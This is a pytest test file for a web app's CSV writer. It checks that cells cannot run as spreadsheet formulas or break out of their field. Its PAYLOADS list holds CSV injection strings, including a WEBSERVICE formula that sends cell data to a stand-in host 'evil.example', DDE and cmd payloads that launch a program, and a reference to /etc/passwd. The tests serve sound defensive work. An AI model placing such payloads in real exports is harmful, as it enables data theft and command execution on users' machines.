"""The one writer of CSV: nothing runs, nothing is lost."""

import csv
import io
from datetime import date

import pytest

from webapp.documents.csv import write

PAYLOADS = (
    "=1+1",
    '=HYPERLINK("http://evil.example";"go")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "='file:///etc/passwd'#$passwd.A1",
    '=DDE("cmd";"/c calc";"x")',
    "=cmd|'/c calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "|calc",
    "%0A=1+1",
    "\0=1+1",
)


def cells_of(document: bytes, separator: str = ",") -> list[list[str]]:
    text = document.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=separator))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_text_can_run_as_a_formula(payload):
    document = write([[payload]])

    assert cells_of(document)[0][0].startswith("'")


@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_a_separator_inside_a_text_starts_no_cell(separator):
    document = write([[f"one{separator}=1+1"]])

    assert cells_of(document, separator)[0] == [f"one{separator}=1+1"]


def test_a_quotation_mark_inside_a_text_ends_no_cell():
    document = write([['a","=1+1', "b"]])

    assert cells_of(document) == [['a","=1+1', "b"]]


def test_it_opens_as_utf_8_in_every_spreadsheet():
    document = write([["小麦"]])

    assert document == b'\xef\xbb\xbf"\xe5\xb0\x8f\xe9\xba\xa6"\r\n'


def test_numbers_stay_numbers():
    document = write([["seat", 7, -12, 0.5, None, date(2026, 12, 18)]])

    assert document.decode("utf-8-sig") == '"seat",7,-12,0.5,"","2026-12-18"\r\n'


@pytest.mark.parametrize("number", [float("nan"), float("inf"), float("-inf")])
def test_what_is_no_number_is_refused(number):
    with pytest.raises(ValueError, match="no number"):
        write([[number]])


def test_harmless_text_is_left_as_it_is():
    document = write([["bright pine cone", "3-5", "a=b", "'quoted'", ""]])

    assert cells_of(document) == [["bright pine cone", "3-5", "a=b", "'quoted'", ""]]
